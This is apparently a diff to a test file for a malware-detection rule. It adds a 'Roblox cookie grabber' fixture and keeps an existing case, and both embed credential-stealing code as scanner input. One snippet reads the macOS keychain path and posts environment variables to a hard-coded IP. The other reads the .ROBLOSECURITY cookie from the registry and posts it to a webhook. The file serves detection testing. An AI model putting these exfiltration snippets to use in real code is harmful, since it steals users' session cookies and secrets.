@@ -27,5 +27,11 @@ ruleTest(rule, {
       code: `import os, json, urllib.request\nk = "~/Library/Keychains/login.keychain-db"\nurllib.request.urlopen("http://1.2.3.9/e", json.dumps(dict(os.environ)).encode())\n`,
       findings: [{ line: 2, severity: 'critical', message: /macOS keychain, environment dump/ }],
     },
+    {
+      name: 'Roblox cookie grabber',
+      file: 'rcl.py',
+      code: `import requests\nfrom winreg import OpenKey, HKEY_CURRENT_USER\nk = OpenKey(HKEY_CURRENT_USER, r"SOFTWARE\\Roblox\\RobloxStudioBrowser\\roblox.com")\nif name == ".ROBLOSECURITY":\n    requests.post(hook, json={"c": value})\n`,
+      findings: [{ line: 4, severity: 'high', confidence: 'medium' }],
+    },
   ],
 });
